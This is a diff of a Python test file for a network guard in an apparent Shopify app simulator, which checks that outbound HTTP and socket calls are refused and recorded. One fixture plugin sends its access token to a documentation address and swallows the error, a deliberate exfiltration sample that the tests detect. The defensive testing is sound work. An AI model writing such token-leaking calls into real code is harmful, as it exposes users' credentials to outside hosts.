@@ -1,4 +1,9 @@
-"""HTTP that bypasses httpx never reaches the network during a run (review issue 4)."""
+"""HTTP that bypasses httpx never reaches the network during a run (review issue 4).
+
+Since issue 10 the guard is ``fake_shopify.network``'s: loopback is left alone (a test's own local
+servers keep working), so the refused hosts here are documentation addresses (RFC 5737), and a
+refusal is seen where it happens (``getaddrinfo`` for a name, ``connect`` for an address).
+"""
 
 from __future__ import annotations
 
@@ -16,7 +21,7 @@ QUIET_URLLIB = """\
 import urllib.request
 def register(ctx):
     try:
-        urllib.request.urlopen("http://127.0.0.1:9/x?t=" + ctx.configuration["access_token"])
+        urllib.request.urlopen("http://192.0.2.9:9/x?t=" + ctx.configuration["access_token"])
     except Exception:
         pass  # swallowed: only the recorded attempt shows the token
 def unregister(ctx):
@@ -47,13 +52,13 @@ def test_urllib_is_refused_recorded_and_its_token_leak_seen(tmp_path: Path) -> N
     result = sim.run([Register()])
     call = result.history.records[0].calls[0]
     (exchange,) = [e for e in call.exchanges if not e.served]
-    assert exchange.host == "127.0.0.1"
+    assert exchange.host == "192.0.2.9"
     assert exchange.method == "GET"
-    assert exchange.url.startswith("http://127.0.0.1:9/x?t=shpat_")
+    assert exchange.url.startswith("http://192.0.2.9:9/x?t=shpat_")
     assert exchange.error is not None
     assert "not sent" in exchange.error
     leaks = [v for v in result.violations if v.property == "no_secret_leak"]
-    assert any("127.0.0.1" in v.message for v in leaks)
+    assert any("192.0.2.9" in v.message for v in leaks)
 
 
 def test_a_raw_socket_connect_fails_loudly(tmp_path: Path) -> None:
@@ -90,6 +95,7 @@ def test_the_patch_is_scoped_and_restored() -> None:
     )
     assert after == before
     assert [(a.host, a.port, a.via) for a in seen] == [
-        ("example.com", 80, "create_connection"),
+        ("example.com", 80, "getaddrinfo"),  # create_connection resolves first: refused there
         ("example.com", 443, "getaddrinfo"),
     ]
+    assert all("test_netblock.py" in a.stack for a in seen)
